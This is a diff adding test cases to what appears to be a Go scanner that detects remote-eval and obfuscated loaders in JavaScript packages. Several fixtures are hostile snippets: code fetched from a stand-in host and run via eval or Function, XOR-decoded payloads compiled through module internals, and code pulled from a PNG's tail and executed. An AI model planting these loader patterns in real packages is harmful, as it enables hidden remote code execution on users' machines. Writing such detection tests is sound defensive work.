@@ -20,6 +20,11 @@ func TestDynamicEval(t *testing.T) {
 
 func TestRemoteEval(t *testing.T) {
 	rt.Check(t, RemoteEval{}, []rt.Case{
+		// the response reaches the Function through an error handler
+		{"error_handler_loader", map[string]string{"index.js": `const axios = require("axios"); const run = (e) => { const mk = (c) => new (Function.constructor)("require", c); mk(e)(require) }
+module.exports = async () => { try { await axios.get(url) } catch (err) { run(err.response.data.cookie) } }`}, finding.SeverityCritical},
+		// a module loader compiling the package's files, with no request
+		{"commonjs_wrapper", map[string]string{"index.js": `const fs = require("fs"); module.exports = p => { const m = { exports: {} }; new Function("exports", "require", "module", fs.readFileSync(p, "utf8"))(m.exports, require, m); return m.exports }`}, finding.SeverityNone},
 		{"await_axios", map[string]string{"index.js": `const axios = require("axios"); (async () => { const r = await axios.get("https://x.invalid/c"); eval(r.data.code) })()`}, finding.SeverityCritical},
 		{"https_callback", map[string]string{"index.js": `require("https").get("https://x.invalid", res => { let b=""; res.on("data", d => b += d); res.on("end", () => new Function(res.body)()) })`}, finding.SeverityCritical},
 		{"fetch_then", map[string]string{"index.js": `fetch("https://x.invalid/p").then(resp => eval(resp.text))`}, finding.SeverityCritical},
@@ -49,6 +54,14 @@ const img = fs.readFileSync(path.join(__dirname, "assets", "logo.png")); eval(im
 		{"inflate_helper", map[string]string{"index.js": `const zlib = require("zlib"), vm = require("vm"); function inflate(b) { return zlib.inflateSync(Buffer.from(b, "base64")).toString("utf8") } vm.runInThisContext(inflate(require("./manifest")))(require)`}, finding.SeverityHigh},
 		{"brotli_script", map[string]string{"index.js": `const { brotliDecompressSync } = require("zlib"); const { Script } = require("vm"); const src = brotliDecompressSync(Buffer.from(data, "base64")).toString(); new Script(src).runInThisContext()`}, finding.SeverityHigh},
 		{"text_decoder_function", map[string]string{"index.js": `const body = new TextDecoder().decode(bytes); new Function("require", body)(require)`}, finding.SeverityHigh},
+		{"xor_loop_compile", map[string]string{"index.js": `const K = "crc32/IEEE"; function unwhiten(b) { const o = Buffer.alloc(b.length); for (let i = 0; i < b.length; i++) o[i] = b[i] ^ K.charCodeAt(i % K.length); return o }
+const ref = unwhiten(V); const m = new module.constructor("x", module); m._compile(ref.toString("utf8"), __filename)`}, finding.SeverityHigh},
+		// a hash is XOR too, and its value is not code
+		{"xor_hash_key", map[string]string{"index.js": `function h(s) { let x = 0; for (const c of s) x = (x * 31) ^ c.charCodeAt(0); return x } module.exports = src => new Function("return " + JSON.stringify(src))()[h(src)]`}, finding.SeverityNone},
+		{"image_tail_helper", map[string]string{"index.js": `const fs = require("fs"); function meta(f) { const b = fs.readFileSync(__dirname + "/" + f); return b.subarray(b.lastIndexOf("IEND") + 8).toString() }
+function apply(m) { new Function("require", m)(require) } apply(meta("logo.png"))`}, finding.SeverityHigh},
+		// a loader compiling package files next to an image it serves
+		{"image_served_loader", map[string]string{"index.js": `const fs = require("fs"); exports.icon = () => fs.readFileSync(__dirname + "/icon.png"); exports.load = src => new Function("module", "exports", src)`}, finding.SeverityNone},
 		// decoded data that is not run
 		{"inflate_font", map[string]string{"index.js": `const zlib = require("zlib"); module.exports = zlib.inflateSync(Buffer.from(require("./font"), "base64"))`}, finding.SeverityNone},
 		{"decoded_json", map[string]string{"index.js": `module.exports = JSON.parse(new TextDecoder().decode(bytes))`}, finding.SeverityNone},
